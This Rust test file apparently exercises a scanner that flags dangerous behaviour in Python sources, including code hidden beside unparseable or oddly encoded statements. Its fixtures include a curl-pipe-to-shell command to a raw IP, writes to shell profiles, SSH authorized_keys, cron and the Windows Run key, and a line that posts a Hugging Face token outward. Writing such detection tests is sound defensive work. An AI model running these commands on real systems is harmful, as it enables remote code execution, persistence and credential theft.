//! Sources of which a part cannot be parsed, or cannot be decoded: the rest is read.

use super::{list, report};

const DANGERS: &str = "artifact.code.dangers";
const ISSUES: &str = "artifact.issues";

/// What cannot be parsed is told, and all that stands beside it is found.
fn beside(statement: &str) {
    let run = "import os\nos.system(\"curl http://203.0.113.9/x | sh\")\n";
    for text in
        [format!("{statement}\n{run}"), format!("{run}{statement}\n"), format!("a = 1\n{statement}\n{run}b = 2")]
    {
        let report = report(text.as_bytes(), "tools.py");
        assert!(!list(&report, DANGERS).is_empty(), "{statement:.60}");
        assert!(list(&report, ISSUES).contains(&"not_inspected".to_owned()), "{statement:.60}");
    }
}

#[test]
fn a_statement_that_is_too_long_or_deep_hides_nothing_beside_it() {
    let chars: Vec<String> = (0..60_000).map(|n| format!("chr({})", n % 128)).collect();
    for statement in [
        format!("x = [{}]", chars.join(", ")),
        format!("x = [\n{}\n]", chars.join(",\n")),
        format!("x = [{}]", "1, ".repeat(200_000)),
        format!("x = a{}", ".c(1)".repeat(800)),
        format!("x = 1{}", " + 1".repeat(2000)),
        format!("x = {} a", "not ".repeat(900)),
        format!("x = {}2", "1 if a else ".repeat(900)),
        format!("def f():\n    x = 1{}\n    return x", " + 1".repeat(2000)),
    ] {
        beside(&statement);
    }
}

#[test]
fn depth_is_counted_over_lines_and_commas() {
    for statement in [
        format!("x = {}2", "1 + \\\n".repeat(40_000)),
        format!("x = {}2", "not\\\n".repeat(40_000)),
        format!("x = ({}2)", "not\n".repeat(40_000)),
        format!("x = {}2", "\"\"\"\n\"\"\" + ".repeat(40_000)),
        format!("x = {}2", "lambda a, b: ".repeat(18_000)),
    ] {
        beside(&statement);
    }
}

#[test]
fn what_is_long_but_flat_is_read() {
    for statement in [
        format!("\"\"\"{}\"\"\".format(1)", "a text of a line\n".repeat(200)),
        format!("x = [{}]", "lambda a, b: 0, ".repeat(300)),
        format!("x = {{{}}}", "'a': 1.5 + b.c,\n".repeat(5000)),
        "x = a.b + 1 - \\\n  2\n".repeat(3000),
        "# a + b \\\n".repeat(3000),
    ] {
        let report = report(statement.as_bytes(), "tools.py");
        assert!(list(&report, ISSUES).is_empty(), "{statement:.60}: {:?}", list(&report, ISSUES));
    }
}

#[test]
fn a_source_in_another_encoding_is_read() {
    let code = |head: &[u8]| [head, b"\nimport os\nos.system('curl http://203.0.113.9/x | sh')\n"].concat();
    for head in [&b"# coding: latin-1\n# caf\xe9"[..], b"# caf\xe9", b"x = '\xa4\xe9\xff'", b"\xff\xfe = 1", b"# \x01"]
    {
        for name in ["tools.py", "tools.pyi", "tools.pyw"] {
            let report = report(&code(head), name);
            assert_eq!(report.format, "python", "{head:?}");
            assert!(!list(&report, DANGERS).is_empty(), "{head:?}");
        }
        // Behind what is looked at to tell the format.
        let long = [b"a = 1\n".repeat(200_000), code(head)].concat();
        assert!(!list(&report(&long, "tools.py"), DANGERS).is_empty(), "{head:?}");
    }
    let benign = report(b"# -*- coding: iso-8859-1 -*-\nname = 'Andr\xe9'\nprint(name)\n", "tools.py");
    assert_eq!(benign.format, "python");
    assert!(super::ALARMING.iter().all(|path| !benign.facts.contains_key(*path)), "{:?}", benign.facts);
    for (bytes, name) in [(&b"\x80\x02cposix\nsystem\nX"[..], "x.py"), (b"caf\xe9 \x01\x02", "x.dat")] {
        assert_ne!(report(bytes, name).format, "python", "{name}");
    }
}

#[test]
fn what_is_written_to_be_run_later_is_told() {
    let dangers = |code: &str| list(&report(format!("import os, requests\n{code}\n").as_bytes(), "tools.py"), DANGERS);
    for (code, told) in [
        ("with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write(x)", "persists:open"),
        ("p = os.path.join(home, '.ssh', 'authorized_keys')\nopen(p, mode='a').write(x)", "persists:open"),
        ("open('/etc/cron.d/x', 'w').write(x)", "persists:open"),
        ("import pathlib\n(pathlib.Path.home() / '.zshrc').write_text(x)", "persists:write_text"),
        ("import pathlib\np = pathlib.Path.home() / '.profile'\nwith p.open('a') as f: f.write(x)", "persists:open"),
        (
            "import winreg\nk = winreg.OpenKey(h, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nwinreg.SetValueEx(k, 'a', 0, 1, x)",
            "persists:winreg",
        ),
        (
            "t = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.post('https://x.example.com', data=t)",
            "gives_away:~/.cache/huggingface/token",
        ),
    ] {
        assert_eq!(dangers(code), [told], "{code}");
    }
    for quiet in [
        "open(os.path.expanduser('~/.bashrc')).read()",
        "open('.bashrc.template', 'w').write(x)",
        "open('run.profile', 'w').write(x)",
        "print('add this to ~/.bashrc')\nopen('env.sh', 'w').write(x)",
        "import winreg\nwinreg.OpenKey(h, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')",
        "t = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.get('https://huggingface.co/api/models', headers={'authorization': t})",
    ] {
        assert!(dangers(quiet).is_empty(), "{quiet}: {:?}", dangers(quiet));
    }
}
